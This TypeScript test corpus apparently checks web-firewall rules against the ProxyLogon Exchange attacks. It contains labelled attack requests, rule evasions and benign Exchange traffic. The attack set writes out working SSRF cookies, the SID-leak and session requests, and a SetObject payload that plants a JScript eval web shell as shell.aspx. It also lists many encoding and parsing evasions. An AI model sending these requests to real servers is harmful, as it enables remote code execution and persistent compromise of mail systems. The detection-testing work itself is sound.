/**
 * Hand-written ProxyLogon request corpus: attack variants from the public tools and the March 2021 attacks,
 * evasions of the cookie rules, and benign Exchange traffic (OWA, ECP, EAS, EWS, MAPI, Autodiscover, OAB).
 * Each request names its source: the public scanners and PoCs (Nmap NSE, Metasploit, Nuclei, proxylogon_rce.py),
 * the published analyses of the March 2021 attacks, and Microsoft's EOMT rules.
 */
import type { LabelledRequest } from './types.js';

const HOST = 'mail.contoso.com';
const BACKEND = 'EXCH01.corp.contoso.com';
const UA_OUTLOOK = 'Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13801; Pro)';
const UA_BROWSER =
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/89.0.4389.82';
const SID = 'S-1-5-21-2823346812-1063262436-1183232358-1104';

/** Build exact request bytes: request line, header lines as given (repeats allowed), blank line, body. */
export function rawRequest(
  method: string,
  target: string,
  headers: [string, string][],
  body = '',
  version = 'HTTP/1.1',
  opts: { noContentLength?: boolean } = {},
): Buffer {
  const lines = [`${method} ${target} ${version}`];
  const names = headers.map(([n]) => n.toLowerCase());
  if (version === 'HTTP/1.1' && !names.includes('host')) lines.push(`Host: ${HOST}`);
  for (const [n, v] of headers) lines.push(`${n}: ${v}`);
  const b = Buffer.from(body, 'utf8');
  if (!opts.noContentLength && (b.length > 0 || method === 'POST') && !names.includes('content-length')) {
    lines.push(`Content-Length: ${b.length}`);
  }
  return Buffer.concat([Buffer.from(`${lines.join('\r\n')}\r\n\r\n`, 'latin1'), b]);
}

/** Raw bytes exactly as written (for obs-fold, odd separators). */
function literal(text: string): Buffer {
  return Buffer.from(text, 'latin1');
}

const NSE_COOKIE =
  'X-AnonResource=true; X-AnonResource-Backend=localhost/ecp/default.flt?~3; X-BEResource=localhost/owa/auth/logon.aspx?~3;';
const BE = (path: string, n = '1941962752') => `X-BEResource=a]@${BACKEND}:444/${path}?#~${n}`;

const AUTODISCOVER_BODY = `<Autodiscover xmlns="http://schemas.microsoft.com/exchange/autodiscover/outlook/requestschema/2006"><Request><EMailAddress>administrator@contoso.com</EMailAddress><AcceptableResponseSchema>http://schemas.microsoft.com/exchange/autodiscover/outlook/responseschema/2006a</AcceptableResponseSchema></Request></Autodiscover>`;
const SHELL_URL =
  'http://f/#<script language=\\"JScript\\" runat=\\"server\\">function Page_Load(){eval(Request[\\"exec_code\\"],\\"unsafe\\");}</script>';
const setObjectBody = (externalUrl: string) =>
  `{"identity":{"__type":"Identity:ECP","DisplayName":"OAB (Default Web Site)","RawIdentity":"b1b2c3d4-0000-4c5d-9e8f-123456789abc"},"properties":{"Parameters":{"__type":"JsonDictionaryOfanyType:#Microsoft.Exchange.Management.ControlPanel","ExternalUrl":"${externalUrl}"}}}`;
const RESET_BODY =
  '{"identity":{"__type":"Identity:ECP","DisplayName":"OAB (Default Web Site)","RawIdentity":"b1b2c3d4-0000-4c5d-9e8f-123456789abc"},"properties":{"Parameters":{"__type":"JsonDictionaryOfanyType:#Microsoft.Exchange.Management.ControlPanel","FilePathName":"\\\\\\\\127.0.0.1\\\\c$\\\\Program Files\\\\Microsoft\\\\Exchange Server\\\\V15\\\\FrontEnd\\\\HttpProxy\\\\owa\\\\auth\\\\shell.aspx"}}}';
const CANARY = 'msExchEcpCanary=Vd0fA2YlIk2SHv0kOPdIPNgCNRrw49gIbUf3ExQ4o8ZAD6RnpBZ9u3pt_Iyv6vLh1n0cIkPb4LM.';
const SET_OBJECT = '/ecp/DDI/DDIService.svc/SetObject';
const ecpHeaders = (ct = 'application/json; charset=utf-8'): [string, string][] => [
  ['User-Agent', UA_BROWSER],
  ['Content-Type', ct],
  ['msExchLogonMailbox', SID],
  ['Cookie', `ASP.NET_SessionId=3b2d4a1e-5f6a-4b7c-8d9e-0a1b2c3d4e5f; ${CANARY}`],
];

export function proxylogonAttacks(): LabelledRequest[] {
  const a = (
    name: string,
    source: string,
    raw: Buffer,
    extra: Partial<LabelledRequest> = {},
  ): LabelledRequest => ({
    name,
    raw,
    expect: 'block',
    source,
    ...extra,
  });
  const ua: [string, string] = ['User-Agent', UA_BROWSER];
  return [
    // --- public scanners ---------------------------------------------------------------------------------
    a(
      'nse-x.js',
      'microsoft/CSS-Exchange http-vuln-cve2021-26855.nse',
      rawRequest('GET', '/owa/auth/x.js', [ua, ['Cookie', NSE_COOKIE]]),
    ),
    a(
      'msf-scanner-x.js-post',
      'metasploit auxiliary/scanner/http/exchange_proxylogon',
      rawRequest('POST', '/owa/auth/x.js', [ua, ['Cookie', NSE_COOKIE]]),
    ),
    a(
      'nuclei-x.js',
      'nuclei-templates CVE-2021-26855.yaml',
      rawRequest('GET', '/owa/auth/x.js', [
        ['User-Agent', 'Mozilla/5.0 (nuclei)'],
        ['Cookie', 'X-AnonResource=true; X-AnonResource-Backend=c8p2x1.oast.fun/ecp/default.flt?~3;'],
      ]),
    ),
    // --- the chain as used in March 2021 -------------------------------------------------------------------
    a(
      'y.js-autodiscover',
      'HAFNIUM attack (real /ecp/y.js, a]@…#~ form)',
      rawRequest(
        'POST',
        '/ecp/y.js',
        [ua, ['Content-Type', 'text/xml'], ['Cookie', BE('autodiscover/autodiscover.xml')]],
        AUTODISCOVER_BODY,
      ),
    ),
    a(
      'y.js-mapi-emsmdb',
      'HAFNIUM attack (mapi/emsmdb SID leak)',
      rawRequest(
        'POST',
        '/ecp/y.js',
        [
          ua,
          ['Content-Type', 'application/mapi-http'],
          ['X-RequestType', 'Connect'],
          ['X-Clientinfo', '{2F94A2BF-A2E6-4CCCC-BF98-B5F22C542226}'],
          ['X-Clientapplication', 'Outlook/15.0.4815.1002'],
          ['X-Requestid', '{C715155F-2BE8-44E0-BD34-2960065754C8}:2'],
          ['Cookie', BE('mapi/emsmdb')],
        ],
        '/o=First Organization/ou=Exchange Administrative Group (FYDIBOHF23SPDLT)/cn=Recipients/cn=admin\0\0\0\0\0\x20\x04\0\0\x09\x04\0\0\x09\x04\0\0\0\0\0\0',
      ),
    ),
    a(
      'y.js-proxyLogon.ecp',
      'HAFNIUM attack (proxyLogon.ecp session)',
      rawRequest(
        'POST',
        '/ecp/y.js',
        [
          ua,
          ['Content-Type', 'text/xml'],
          ['msExchLogonMailbox', 'S-1-5-20'],
          ['Cookie', BE('ecp/proxyLogon.ecp')],
        ],
        `<r at="Negotiate" ln="administrator"><s>${SID.replace(/-1104$/, '-500')}</s></r>`,
      ),
    ),
    a(
      'msf-rce-getlist',
      'metasploit exploit/windows/http/exchange_proxylogon_rce ([:[@…&a=~ form)',
      rawRequest('GET', '/ecp/Bx.js', [
        ua,
        [
          'Cookie',
          `X-BEResource=[:[@${BACKEND}:444/ecp/DDI/DDIService.svc/GetList?reqId=1615583487987&schema=VirtualDirectory&${CANARY}&a=~1942062522`,
        ],
      ]),
    ),
    a(
      'ssrf-setobject',
      'HAFNIUM attack (27065 through the 26855 SSRF)',
      rawRequest(
        'POST',
        '/ecp/y.js',
        [
          ua,
          ['Content-Type', 'application/json; charset=utf-8'],
          ['msExchLogonMailbox', SID],
          [
            'Cookie',
            `X-BEResource=a]@${BACKEND}:444/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&${CANARY}#~1941962752; ${CANARY}`,
          ],
        ],
        setObjectBody(SHELL_URL),
      ),
    ),
    a(
      'fqdn-discovery',
      'public PoCs (proxylogon_rce.py: X-BEResource=localhost~1942062522)',
      rawRequest('GET', '/ecp/Zp3q.js', [ua, ['Cookie', 'X-BEResource=localhost~1942062522']]),
      { strictOnly: true },
    ),
    // --- CVE-2021-27065 direct (authenticated ECP) --------------------------------------------------------
    a(
      '27065-setobject-oab',
      'CVE-2021-27065 SetObject OABVirtualDirectory ExternalUrl web shell',
      rawRequest(
        'POST',
        `${SET_OBJECT}?schema=OABVirtualDirectory&${CANARY}`,
        ecpHeaders(),
        setObjectBody(SHELL_URL),
      ),
    ),
    a(
      '27065-reset-oab',
      'CVE-2021-27065 SetObject ResetOABVirtualDirectory FilePathName .aspx',
      rawRequest('POST', `${SET_OBJECT}?schema=ResetOABVirtualDirectory&${CANARY}`, ecpHeaders(), RESET_BODY),
    ),
    a(
      '27065-lowercase-path-entity',
      'evasion: lowercase path, HTML entities in JSON',
      rawRequest(
        'POST',
        `/ecp/ddi/ddiservice.svc/setobject?schema=oabvirtualdirectory&${CANARY}`,
        ecpHeaders(),
        setObjectBody(
          'http://f/#&lt;script language=&quot;JScript&quot; runat=&quot;server&quot;&gt;x&lt;/script&gt;',
        ),
      ),
    ),
    a(
      '27065-json-unicode-escape',
      'evasion: \\u003c JSON escapes',
      rawRequest(
        'POST',
        `${SET_OBJECT}?schema=OABVirtualDirectory&${CANARY}`,
        ecpHeaders(),
        setObjectBody(
          'http://f/#\\u003cscr\\u0069pt language=\\"JScr\\u0069pt\\" r\\u0075nat=\\"server\\"\\u003e',
        ),
      ),
    ),
    a(
      '27065-percent-schema-dotslash-path',
      'evasion: %-encoded schema, //./ in path, tab-split tag',
      rawRequest(
        'POST',
        `/ecp//DDI/./DDIService.svc/SetObject?schema=%4FAB%56irtual%44irectory&${CANARY}`,
        ecpHeaders(),
        setObjectBody('http://f/#<\\tscript\\trunat  =\\"server\\">'),
      ),
    ),
    a(
      '27065-form-urlencoded',
      'evasion: form-urlencoded body',
      rawRequest(
        'POST',
        `${SET_OBJECT}?schema=OABVirtualDirectory&${CANARY}`,
        ecpHeaders('application/x-www-form-urlencoded'),
        `ExternalUrl=${encodeURIComponent('http://f/#<script runat="server">eval(Request["x"])</script>')}`,
      ),
    ),
    // --- cookie evasions ---------------------------------------------------------------------------------
    a(
      'evasion-two-cookie-headers',
      'evasion: attack in the second of two Cookie headers',
      rawRequest('GET', '/ecp/y.js', [
        ua,
        ['Cookie', `ClientId=6E8F1B2C9A3D4E5F; ${CANARY}`],
        ['Cookie', BE('autodiscover/autodiscover.xml')],
      ]),
    ),
    a(
      'evasion-split-anon-cookies',
      'evasion: NSE cookies split over three Cookie headers',
      rawRequest('GET', '/owa/auth/x.js', [
        ua,
        ['Cookie', 'X-AnonResource=true'],
        ['Cookie', 'X-AnonResource-Backend=localhost/ecp/default.flt?~3'],
        ['Cookie', 'X-BEResource=localhost/owa/auth/logon.aspx?~3'],
      ]),
    ),
    a(
      'evasion-mixed-case',
      'evasion: mixed-case cookie names and header name',
      rawRequest('GET', '/ecp/y.js', [
        ua,
        ['cOOKIE', `x-bEReSoUrCe=a]@${BACKEND}:444/mapi/emsmdb?#~1941962752`],
      ]),
    ),
    a(
      'evasion-upper-anon',
      'evasion: upper-case X-ANONRESOURCE-BACKEND',
      rawRequest('GET', '/owa/auth/x.js', [
        ua,
        ['Cookie', 'X-ANONRESOURCE=TRUE; X-ANONRESOURCE-BACKEND=LOCALHOST/ECP/DEFAULT.FLT?~3'],
      ]),
    ),
    a(
      'evasion-percent-value',
      'evasion: %2F / %7E in the X-BEResource value',
      rawRequest('GET', '/ecp/y.js', [
        ua,
        ['Cookie', `X-BEResource=a]@${BACKEND}:444%2Fautodiscover%2Fautodiscover.xml?#%7E1941962752`],
      ]),
    ),
    a(
      'evasion-percent-name',
      'evasion: %-encoded cookie names (%2D, %58, %u0042)',
      rawRequest('GET', '/owa/auth/x.js', [
        ua,
        [
          'Cookie',
          'X-AnonResource%2DBackend=localhost/ecp/default.flt?~3; %58-%u0042EResource=localhost/x?~3',
        ],
      ]),
    ),
    a(
      'evasion-percent-null',
      'evasion: %00 inside the cookie name',
      rawRequest('GET', '/owa/auth/x.js', [
        ua,
        ['Cookie', 'X-AnonResource%00-Backend=localhost/ecp/default.flt?~3'],
      ]),
    ),
    a(
      'evasion-space-before-equals',
      'evasion: "X-BEResource =" and tabs',
      rawRequest('GET', '/ecp/y.js', [
        ua,
        ['Cookie', `X-BEResource \t= a]@${BACKEND}:444/ecp/proxyLogon.ecp?#~1941962752`],
      ]),
    ),
    a(
      'evasion-leading-whitespace',
      'evasion: spaces and tabs after "Cookie:"',
      literal(
        `GET /owa/auth/x.js HTTP/1.1\r\nHost: ${HOST}\r\nCookie:\t   \tX-AnonResource-Backend=localhost/ecp/default.flt?~3;\t \r\n\r\n`,
      ),
    ),
    a(
      'evasion-obs-fold',
      'evasion: obs-fold continuation line (nginx answers 400 itself)',
      literal(
        `GET /ecp/y.js HTTP/1.1\r\nHost: ${HOST}\r\nCookie: ClientId=6E8F1B2C9A3D4E5F;\r\n ${BE('autodiscover/autodiscover.xml')}\r\n\r\n`,
      ),
      { note: 'rejected by nginx (400) before ModSecurity' },
    ),
    a(
      'evasion-http10',
      'evasion: HTTP/1.0 without Host',
      rawRequest('GET', '/ecp/y.js', [ua, ['Cookie', BE('autodiscover/autodiscover.xml')]], '', 'HTTP/1.0'),
    ),
    a(
      'evasion-absolute-form',
      'evasion: absolute-form request-target',
      rawRequest('GET', `http://${HOST}/owa/auth/x.js`, [ua, ['Cookie', NSE_COOKIE]]),
    ),
    a(
      'evasion-pipelined-after-benign',
      'evasion: attack pipelined after a benign request on one connection',
      Buffer.concat([
        rawRequest(
          'GET',
          '/owa/auth/logon.aspx?replaceCurrent=1&url=https%3a%2f%2fmail.contoso.com%2fowa%2f',
          [ua],
        ),
        rawRequest('GET', '/ecp/y.js', [ua, ['Cookie', BE('autodiscover/autodiscover.xml')]]),
      ]),
    ),
    a(
      'evasion-pipelined-first',
      'evasion: attack first, benign request pipelined behind it',
      Buffer.concat([
        rawRequest('GET', '/owa/auth/x.js', [ua, ['Cookie', NSE_COOKIE]]),
        rawRequest('GET', '/owa/', [ua]),
      ]),
    ),
    a(
      'evasion-backslash-path',
      'evasion: "\\" instead of "/" in the X-BEResource path (EOMT rule 2 needs "/")',
      rawRequest('GET', '/ecp/y.js', [
        ua,
        ['Cookie', `X-BEResource=a]@${BACKEND}:444\\autodiscover\\autodiscover.xml?#~1941962752`],
      ]),
      { strictOnly: true },
    ),
  ];
}

export function proxylogonBenign(): LabelledRequest[] {
  const b = (name: string, raw: Buffer, source = 'hand-written Exchange traffic'): LabelledRequest => ({
    name,
    raw,
    expect: 'allow',
    source,
  });
  const owaCookie = [
    `X-BackEndCookie=${SID}=u56Lnp2ejJqBxsmdy8acnc3SysnIzNLLm57N0sfMmcjSnMrGyZvGmsjLzsvHgYHNz87L0s/M0s3Hq87Oxc/IxczI`,
    'ClientId=9F9D8B2A2E0B4A5E8E4F3C3B1B2A1C0D',
    'X-OWA-CANARY=yVb4VJmQ7ka1Zg3oYh9kz6jP2s8tZ9gIbUf3ExQ4o8ZAD6RnpBZ9u3pt_Iyv6vLh1n0cIkPb4LM.',
    'cadata=0L3NkQ4SMbX2hTJd4NqRkVq/P9bz+7mTzR2yWt1Q8Nd0uW4nY9aZ3mK1oJ2pE5tL7cF8gH0iR6sU4vX3wY2zA1bB==',
    'cadataTTL=Ap8eL/qUp3yQkDxC5m6GBg==',
    'cadataKey=hS2G+0j8QWmT7yK4pL9rN3vX1bC6dF5eR2tY8uI0oP7aS4dF6gH9jK2lZ5xC8vB1nM3qW7eR0tY4uI6oP9aS2dF==',
    'cadataIV=Q2h+d8Rk3Lm5nP7qS9tV1w==',
    'cadataSig=xY4bZ8cA2dE6fG0hI3jK5lM7nO9pQ1rS3tU5vW7xY9zA1bC3dE5fG7hI9jK1lM3n=',
    'PrivateComputer=true',
    'UC=5d8c1f0a9b2e4c7d8e1f2a3b4c5d6e7f',
    'PBack=0',
    `X-BEResource=${BACKEND}~1942062522`,
  ].join('; ');
  const ua: [string, string] = ['User-Agent', UA_BROWSER];
  return [
    b(
      'owa-logon-page',
      rawRequest('GET', '/owa/auth/logon.aspx?replaceCurrent=1&url=https%3a%2f%2fmail.contoso.com%2fowa%2f', [
        ua,
      ]),
    ),
    b(
      'owa-auth-post',
      rawRequest(
        'POST',
        '/owa/auth.owa',
        [
          ua,
          ['Content-Type', 'application/x-www-form-urlencoded'],
          ['Cookie', 'PBack=0; PrivateComputer=true'],
        ],
        'destination=https%3A%2F%2Fmail.contoso.com%2Fowa%2F&flags=4&forcedownlevel=0&username=contoso%5Cjdoe&password=S3cr3t%2F~x&passwordText=&isUtf8=1',
      ),
    ),
    b('owa-mailbox', rawRequest('GET', '/owa/', [ua, ['Cookie', owaCookie]])),
    b(
      'owa-service-findfolder',
      rawRequest(
        'POST',
        '/owa/service.svc?action=FindItem&EP=1&ID=-12&AC=1',
        [
          ua,
          ['Content-Type', 'application/json; charset=UTF-8'],
          ['Action', 'FindItem'],
          ['X-OWA-CANARY', 'yVb4VJmQ7ka1Zg3oYh9kz6jP2s8tZ9gIbUf3ExQ4o8ZAD6RnpBZ9u3pt_Iyv6vLh1n0cIkPb4LM.'],
          ['X-Requested-With', 'XMLHttpRequest'],
          ['Cookie', owaCookie],
        ],
        '{"__type":"FindItemJsonRequest:#Exchange","Header":{"__type":"JsonRequestHeaders:#Exchange","RequestServerVersion":"Exchange2013"},"Body":{"__type":"FindItemRequest:#Exchange","ItemShape":{"BaseShape":"IdOnly"},"ParentFolderIds":[{"__type":"DistinguishedFolderId:#Exchange","Id":"inbox"}],"Traversal":"Shallow","Paging":{"__type":"IndexedPageView:#Exchange","BasePoint":"Beginning","Offset":0,"MaxEntriesReturned":50}}}',
      ),
    ),
    b(
      'owa-theme-resource',
      rawRequest('GET', '/owa/auth/15.1.2176/themes/resources/favicon.ico', [ua, ['Cookie', owaCookie]]),
    ),
    b(
      'ecp-home',
      rawRequest('GET', '/ecp/?ExchClientVer=15', [
        ua,
        ['Cookie', `${owaCookie}; ASP.NET_SessionId=3b2d4a1e-5f6a-4b7c-8d9e-0a1b2c3d4e5f; ${CANARY}`],
      ]),
    ),
    b(
      'ecp-getlist-vdir',
      rawRequest(
        'POST',
        `/ecp/DDI/DDIService.svc/GetList?reqId=1615583487987&schema=VirtualDirectory&${CANARY}`,
        ecpHeaders(),
        '{"filter":{"Parameters":{"__type":"JsonDictionaryOfanyType:#Microsoft.Exchange.Management.ControlPanel","SelectedView":"","SelectedVDirType":"All"}},"sort":{}}',
      ),
    ),
    b(
      'ecp-setobject-oab-benign',
      rawRequest(
        'POST',
        `${SET_OBJECT}?schema=OABVirtualDirectory&${CANARY}`,
        ecpHeaders(),
        setObjectBody('https://mail.contoso.com/OAB'),
      ),
    ),
    b(
      'ecp-setobject-owa-vdir-benign',
      rawRequest(
        'POST',
        `${SET_OBJECT}?schema=OWAVirtualDirectory&${CANARY}`,
        ecpHeaders(),
        '{"identity":{"__type":"Identity:ECP","RawIdentity":"a1b2"},"properties":{"Parameters":{"__type":"JsonDictionaryOfanyType:#Microsoft.Exchange.Management.ControlPanel","ExternalUrl":"https://mail.contoso.com/owa","InternalUrl":"https://exch01.corp.contoso.com/owa","LogonFormat":"FullDomain"}}}',
      ),
    ),
    b(
      'ecp-setobject-other-schema-with-script-text',
      rawRequest(
        'POST',
        `${SET_OBJECT}?schema=MailboxAutoReplyConfiguration&${CANARY}`,
        ecpHeaders(),
        '{"identity":null,"properties":{"Parameters":{"__type":"JsonDictionaryOfanyType:#Microsoft.Exchange.Management.ControlPanel","InternalMessage":"<div>Out of office. Our <b>runat</b> team: see <script>-free page</div>"}}}',
      ),
    ),
    b(
      'eas-sync',
      rawRequest(
        'POST',
        '/Microsoft-Server-ActiveSync?Cmd=Sync&User=jdoe&DeviceId=ApplF17XK1Q2HG7F&DeviceType=iPhone',
        [
          ['User-Agent', 'Apple-iPhone13C2/1805.114'],
          ['Authorization', 'Basic Y29udG9zb1xqZG9lOlMzY3IzdC9+eA=='],
          ['MS-ASProtocolVersion', '16.1'],
          ['X-MS-PolicyKey', '3142278716'],
          ['Content-Type', 'application/vnd.ms-sync.wbxml'],
        ],
        '\x03\x01j\x00\x00\x00E\x5c\x4f\x4b\x03\x30\x00\x01\x52\x03\x31\x00\x01\x01\x01',
      ),
    ),
    b(
      'eas-options',
      rawRequest('OPTIONS', '/Microsoft-Server-ActiveSync', [
        ['User-Agent', 'Outlook-iOS-Android/1.0'],
        ['Authorization', 'Basic Y29udG9zb1xqZG9lOlMzY3IzdC9+eA=='],
      ]),
    ),
    b(
      'ews-getfolder',
      rawRequest(
        'POST',
        '/EWS/Exchange.asmx',
        [
          ['User-Agent', UA_OUTLOOK],
          ['Content-Type', 'text/xml; charset=utf-8'],
          ['SOAPAction', '"http://schemas.microsoft.com/exchange/services/2006/messages/GetFolder"'],
          [
            'Cookie',
            `exchangecookie=b2f1c8d2a1e94f6b9d7c5e3a1f0b2c4d; X-BackEndCookie=${SID}=u56Lnp2ejJqBxsmdy8acnc3S/Kz8bGgYHNz87L0s`,
          ],
        ],
        '<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" xmlns:t="http://schemas.microsoft.com/exchange/services/2006/types" xmlns:m="http://schemas.microsoft.com/exchange/services/2006/messages"><soap:Header><t:RequestServerVersion Version="Exchange2016"/></soap:Header><soap:Body><m:GetFolder><m:FolderShape><t:BaseShape>Default</t:BaseShape></m:FolderShape><m:FolderIds><t:DistinguishedFolderId Id="inbox"/></m:FolderIds></m:GetFolder></soap:Body></soap:Envelope>',
      ),
    ),
    b(
      'mapi-emsmdb-connect',
      rawRequest(
        'POST',
        '/mapi/emsmdb/?MailboxId=5d3c0e7f-2a1b-4c9d-8e6f-123456789abc@contoso.com',
        [
          ['User-Agent', UA_OUTLOOK],
          ['Content-Type', 'application/mapi-http'],
          ['X-RequestType', 'Connect'],
          ['X-ClientInfo', '{2F94A2BF-A2E6-4CCC-BF98-B5F22C542226}:1'],
          ['X-RequestId', '{C715155F-2BE8-44E0-BD34-2960065754C8}:1'],
          ['X-ClientApplication', 'Outlook/16.0.13801.20266'],
          [
            'Authorization',
            'Negotiate YIIHBgYGKwYBBQUCoIIG+jCCBvagMDAuBgkqhkiC9xIBAgIGCSqGSIb3EgECAgYKKwYBBAGCNwICHgYKKwYBBAGCNwICCqKCBsAEgga8YIIGuAYJKoZIhvcSAQICAQBuggan',
          ],
          [
            'Cookie',
            'MapiContext=AAAAAAAAAAAAAAAAAAAAAA==; MapiRouting=a1b2c3d4e5f6/g7h8~1; MapiSequence=3-l9Lq8w==',
          ],
        ],
        '\0\0\0\0\0\0\0\0',
      ),
    ),
    b(
      'autodiscover-xml',
      rawRequest(
        'POST',
        '/autodiscover/autodiscover.xml',
        [
          ['User-Agent', UA_OUTLOOK],
          ['Content-Type', 'text/xml'],
          ['Authorization', 'Basic Y29udG9zb1xqZG9lOlMzY3IzdC9+eA=='],
        ],
        AUTODISCOVER_BODY.replace('administrator', 'jdoe'),
      ),
    ),
    b(
      'autodiscover-json',
      rawRequest('GET', '/autodiscover/autodiscover.json/v1.0/jdoe@contoso.com?Protocol=ActiveSync', [
        ['User-Agent', 'Outlook-iOS-Android/1.0'],
      ]),
    ),
    b(
      'oab-download',
      rawRequest('GET', '/OAB/4a2b1c3d-5e6f-7a8b-9c0d-e1f2a3b4c5d6/oab.xml', [['User-Agent', UA_OUTLOOK]]),
    ),
    b(
      'rpc-over-http',
      rawRequest('RPC_IN_DATA', '/rpc/rpcproxy.dll?exch01.corp.contoso.com:6001', [
        ['User-Agent', 'MSRPC'],
        ['Authorization', 'Negotiate TlRMTVNTUAABAAAAB4IIogAAAAAAAAAAAAAAAAAAAAAGAbEdAAAADw=='],
      ]),
    ),
    b(
      'lookalike-cookies',
      rawRequest('GET', '/owa/', [
        ua,
        [
          'Cookie',
          'X-BE-Resource=srv/path~1; XBEResource=a/b~2; X-BEResourceHint=none; X-ResourceBE=x/y~3; X-AnonResource=true; X-AnonResource-Frontend=ok/x~4; X-BackEndResource=p/q~5',
        ],
      ]),
      'hand-written look-alikes (names are not X-BEResource / X-AnonResource-Backend)',
    ),
    b(
      'legit-beresource-two-headers',
      rawRequest('GET', '/owa/', [
        ua,
        ['Cookie', `X-BEResource=${BACKEND}~1942062522`],
        ['Cookie', 'ClientId=9F9D8B2A2E0B4A5E; path=/owa; x=~1'],
      ]),
      'hand-written: legitimate X-BEResource in its own Cookie header, "/" and "~" only in the next header',
    ),
    b(
      'benign-http10',
      rawRequest(
        'GET',
        '/owa/auth/logon.aspx',
        [ua, ['Cookie', `X-BEResource=${BACKEND}~1942062522`]],
        '',
        'HTTP/1.0',
      ),
    ),
    b(
      'benign-pipelined',
      Buffer.concat([
        rawRequest('GET', '/owa/', [ua, ['Cookie', owaCookie]]),
        rawRequest('GET', '/owa/auth/15.1.2176/themes/resources/favicon.ico', [ua, ['Cookie', owaCookie]]),
      ]),
    ),
  ];
}
